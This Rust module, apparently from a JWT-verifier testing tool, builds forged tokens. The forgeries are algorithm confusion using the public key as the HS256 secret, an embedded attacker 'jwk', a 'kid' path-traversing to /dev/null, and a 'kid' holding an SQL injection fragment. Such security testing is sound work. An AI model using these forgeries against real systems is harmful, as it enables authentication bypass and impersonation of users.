//! Forgeries that make the verifier take its key, or the kind of its key, from the token.

use super::Recipe;
use super::public_key::PublicKey;
use super::signing_key::SigningKey;
use serde_json::{Value, json};
use std::sync::Arc;

/// HS256 with each form of the issuer's public key as the secret (CVE-2015-9235): everybody knows
/// it, and a verifier that lets the header choose the algorithm takes it.
pub(crate) fn public_key_as_secret(key: &PublicKey) -> Vec<Recipe> {
    key.as_secrets()
        .into_iter()
        .map(|(form, secret)| {
            Recipe::signed_with(
                format!("HS256, the public key as secret: {form}"),
                vec![("alg", json!("HS256"))],
                Arc::new(SigningKey::hmac(secret)),
            )
        })
        .collect()
}

/// Keys that the token brings along or names: a fresh one embedded as `jwk` (CVE-2018-0114), and a
/// `kid` that a careless look-up turns into an empty file or into a value that the token chose
/// (RFC 8725, section 3.10). `fresh` is a key of the original's algorithm, where one could be made.
pub(crate) fn chosen_by_token(algorithm: &str, fresh: Option<&Arc<SigningKey>>) -> Vec<Recipe> {
    let mut recipes = Vec::new();
    let embedded = fresh.and_then(|key| Some((key, key.public_jwk()?)));
    if let Some((key, mut jwk)) = embedded {
        jwk["kid"] = json!("embedded");
        jwk["use"] = json!("sig");
        recipes.push(Recipe::signed_with(
            "signed with a fresh key that is embedded as `jwk`",
            vec![
                ("alg", json!(algorithm)),
                ("jwk", jwk),
                ("kid", json!("embedded")),
            ],
            Arc::clone(key),
        ));
    }
    let kid = |label: &str, kid: Value, secret: &[u8]| {
        Recipe::signed_with(
            label,
            vec![("alg", json!("HS256")), ("kid", kid)],
            Arc::new(SigningKey::hmac(secret)),
        )
    };
    recipes.push(kid(
        "HS256, `kid` is the path of an empty file, the secret is empty",
        json!("../../../../../../../../dev/null"),
        b"",
    ));
    recipes.push(kid(
        "HS256, `kid` is an SQL fragment that selects the secret",
        json!("cofferdam' UNION SELECT 'cofferdam'-- "),
        b"cofferdam",
    ));
    recipes
}
